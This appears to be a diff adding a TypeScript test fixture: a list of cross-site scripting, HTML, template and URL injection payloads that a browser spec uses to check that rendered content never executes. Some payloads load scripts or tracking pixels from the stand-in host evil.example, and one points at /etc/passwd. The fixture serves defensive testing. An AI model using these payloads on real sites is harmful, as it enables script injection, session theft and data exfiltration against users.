@@ -1,0 +1,136 @@
+/** Called by a payload that runs; the browser spec counts the calls. */
+export const OWNED = 'holdpointOwned';
+const CALL = `${OWNED}()`;
+/** Where a payload would send something or load something from; nobody listens there. */
+const ELSEWHERE = 'http://evil.example';
+
+/** Elements that run a handler by themselves, with what makes them run it. */
+const SELF_STARTING: readonly string[] = [
+  `<img src=x onerror=${CALL}>`,
+  `<svg onload=${CALL}>`,
+  `<body onload=${CALL}>`,
+  `<video src=x onerror=${CALL}>`,
+  `<audio src=x onerror=${CALL}>`,
+  `<object data=x onerror=${CALL}>`,
+  `<input autofocus onfocus=${CALL}>`,
+  `<select autofocus onfocus=${CALL}>`,
+  `<textarea autofocus onfocus=${CALL}>`,
+  `<details open ontoggle=${CALL}>`,
+  `<marquee onstart=${CALL}>`,
+  `<style onload=${CALL}></style>`,
+  `<link rel=stylesheet href=x onerror=${CALL}>`,
+  `<iframe onload=${CALL}>`,
+  `<video><source onerror=${CALL}></video>`,
+  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+  `<svg><set onbegin=${CALL} attributeName=x>`,
+  `<p style="animation:x" onanimationstart=${CALL}>`,
+  `<div contenteditable autofocus onfocus=${CALL}>`,
+  `<custom-element tabindex=1 autofocus onfocus=${CALL}>`,
+];
+
+/** Ways out of where a text could have been put: an attribute, an element, a script, a comment, a template. */
+const WAYS_OUT: readonly string[] = ['">', "'>", '-->', ']]>', '</script>', '</style>', '</title>', '</textarea>', '</template>'];
+
+/** Addresses that run something when they are followed or loaded. */
+const ADDRESSES: readonly string[] = [
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  `java\tscript:${CALL}`,
+  `\u0001javascript:${CALL}`,
+  `javascript&colon;${CALL}`,
+  `data:text/html,<script>${CALL}</script>`,
+  `vbscript:${CALL}`,
+  `blob:${ELSEWHERE}/x`,
+  `//evil.example/x`,
+  `${ELSEWHERE}/x.png`,
+  `file:///etc/passwd`,
+];
+const LINKS: readonly ((address: string) => string)[] = [
+  address => `<a href="${address}">click</a>`,
+  address => `[click](${address})`,
+  address => `![image](${address})`,
+  address => `<iframe src="${address}"></iframe>`,
+  address => `<form action="${address}"><button>ok</button></form>`,
+];
+
+const SINGLE: readonly string[] = [
+  `<script>${CALL}</script>`,
+  `<script src="${ELSEWHERE}/x.js"></script>`,
+  `<script type="module">import "${ELSEWHERE}/x.js"</script>`,
+  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  `<SCRIPT>${CALL}</SCRIPT>`,
+  `<script\u0000>${CALL}</script>`,
+  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
+  `&lt;script&gt;${CALL}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${CALL}&#62;`,
+  `%3Cscript%3E${CALL}%3C/script%3E`,
+  `＜script＞${CALL}＜/script＞`,
+  `<svg><script>${CALL}</script></svg>`,
+  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>#x"/></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
+  `<math href="javascript:${CALL}">x</math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
+  `<template shadowrootmode=open><script>${CALL}</script></template>`,
+  `<base href="${ELSEWHERE}/">`,
+  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
+  `<link rel="preload" as="script" href="${ELSEWHERE}/x.js">`,
+  `<link rel="dns-prefetch" href="//evil.example">`,
+  `<style>@import url("${ELSEWHERE}/x.css");</style>`,
+  `<style>*{background:url("${ELSEWHERE}/x.png")}</style>`,
+  `<p style="background:url(${ELSEWHERE}/x.png)">x</p>`,
+  `<p style="position:fixed;inset:0;background:#fff;z-index:9999">You may approve this</p>`,
+  `<img src="${ELSEWHERE}/pixel.png">`,
+  `<img srcset="${ELSEWHERE}/pixel.png 1x">`,
+  `<picture><source srcset="${ELSEWHERE}/pixel.png"><img></picture>`,
+  `<video poster="${ELSEWHERE}/pixel.png"></video>`,
+  `<embed src="${ELSEWHERE}/x.swf">`,
+  `<object data="${ELSEWHERE}/x.svg" type="image/svg+xml"></object>`,
+  `<input type=image src="${ELSEWHERE}/pixel.png">`,
+  `<form><button formaction="javascript:${CALL}">Approve</button></form>`,
+  `<form id=x><input name=attributes></form>`,
+  `<img name=getElementById><img id=root>`,
+  `<a id=location href="${ELSEWHERE}">x</a>`,
+  `<dialog open>Approved by everybody</dialog>`,
+  `<button autofocus accesskey=a onclick=${CALL}>x</button>`,
+  `<a ping="${ELSEWHERE}/" href="#">x</a>`,
+  `<portal src="${ELSEWHERE}/"></portal>`,
+  `{{constructor.constructor('${CALL}')()}}`,
+  `{{7*7}}`,
+  `\${${CALL}}`,
+  `<%= ${CALL} %>`,
+  `#{${CALL}}`,
+  `{%raw%}<img src=x onerror=${CALL}>{%endraw%}`,
+  `"-${CALL}-"`,
+  `';${CALL}//`,
+  `\\";${CALL}//`,
+  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`,
+  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CALL}>"}}`,
+  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
+  `<!--<img src=x onerror=${CALL}>-->`,
+  `<!--[if IE]><script>${CALL}</script><![endif]-->`,
+  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
+  `<?xml-stylesheet href="javascript:${CALL}"?>`,
+  `<xss id=x tabindex=1 onfocus=${CALL}></xss>`,
+  `**bold** <b onmouseover=${CALL}>x</b>`,
+  '```html\n<script>' + CALL + '</script>\n```',
+  `<https://evil.example>`,
+  `https://evil.example/?q=<script>${CALL}</script>`,
+  `=HYPERLINK("${ELSEWHERE}","Approve")`,
+  `@import "${ELSEWHERE}/x.css";`,
+  `\u2028${CALL}\u2028`,
+  `\u202e<img src=x onerror=${CALL}>`,
+];
+
+/** Payloads that would run a script, load something, leave the page, cover it or take its names, if any of them became more than text. */
+export const HOSTILE_PAYLOADS: readonly string[] = [
+  ...new Set([
+    ...SINGLE,
+    ...SELF_STARTING,
+    ...WAYS_OUT.flatMap(way => SELF_STARTING.slice(0, 7).map(element => `${way}${element}`)),
+    ...LINKS.flatMap(link => ADDRESSES.map(link)),
+  ]),
+];
